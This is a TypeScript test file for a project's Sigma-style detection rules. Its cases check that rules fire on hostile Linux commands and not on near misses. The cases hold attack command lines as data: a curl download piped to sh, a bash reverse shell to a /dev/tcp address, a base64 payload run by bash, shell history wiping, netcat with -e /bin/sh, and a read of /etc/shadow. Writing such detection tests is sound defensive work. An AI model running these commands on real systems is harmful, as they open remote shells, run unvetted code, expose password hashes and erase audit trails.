/** The rules this project ships (detector/rules): each compiles, fires on what it describes, and not on a near miss. */
import assert from 'node:assert/strict';
import path from 'node:path';
import { it } from 'node:test';
import { repoRoot } from '../infra/paths.js';
import { commandLine } from '../schemas/sigma-fields.js';
import { sampleEvent } from '../test/fixtures/events.js';
import { createEngine, evaluateExecve, loadRules } from './sigma/engine.js';

const set = loadRules(path.join(repoRoot, 'detector', 'rules'));
const engine = createEngine(set.rules);

function titles(image: string, argv: string[]): string[] {
  const e = sampleEvent({ image, argv, argvBytes: commandLine(argv).length + 1 });
  return evaluateExecve(engine, e)
    .map((m) => m.rule.title)
    .sort();
}

it('every shipped rule compiles', () => {
  assert.deepEqual(set.problems, []);
  assert.ok(set.rules.length >= 6);
});

const cases: Array<[string, string, string[], string[]]> = [
  [
    'download piped to shell',
    '/usr/bin/bash',
    ['bash', '-c', 'curl -fsSL https://x.example/i.sh | sh'],
    ['Script Downloaded and Piped Straight Into a Shell'],
  ],
  [
    'download saved, not piped',
    '/usr/bin/bash',
    ['bash', '-c', 'curl -fsSLo i.sh https://x.example/i.sh'],
    [],
  ],
  [
    'reverse shell',
    '/usr/bin/bash',
    ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
    ['Shell Redirected to a /dev/tcp Socket'],
  ],
  [
    'decoded payload',
    '/usr/bin/bash',
    ['bash', '-c', 'echo ZWNobyBoaQ== | base64 -d | bash'],
    ['Base64-Decoded Text Handed to an Interpreter'],
  ],
  ['decoding alone', '/usr/bin/base64', ['base64', '-d', 'blob.b64'], []],
  ['history wiped', '/usr/bin/bash', ['bash', '-c', 'history -c'], ['Shell History Wiped or Disabled']],
  ['history file removed', '/usr/bin/rm', ['rm', '/root/.bash_history'], ['Shell History Wiped or Disabled']],
  [
    'netcat exec',
    '/usr/bin/nc.traditional',
    ['nc', '-l', '-p', '4444', '-e', '/bin/sh'],
    ['Netcat Started With a Program to Run for Each Connection'],
  ],
  ['netcat port check', '/usr/bin/nc', ['nc', '-z', 'db', '5432'], []],
  [
    'shadow read',
    '/usr/bin/cat',
    ['cat', '/etc/shadow'],
    ['Password Hashes Read With a General-Purpose Tool'],
  ],
  ['passwd read', '/usr/bin/cat', ['cat', '/etc/passwd'], []],
];

for (const [name, image, argv, expected] of cases) {
  it(`${name}: ${expected.length ? expected.join(', ') : 'no alert'}`, () => {
    assert.deepEqual(titles(image, argv), expected);
  });
}
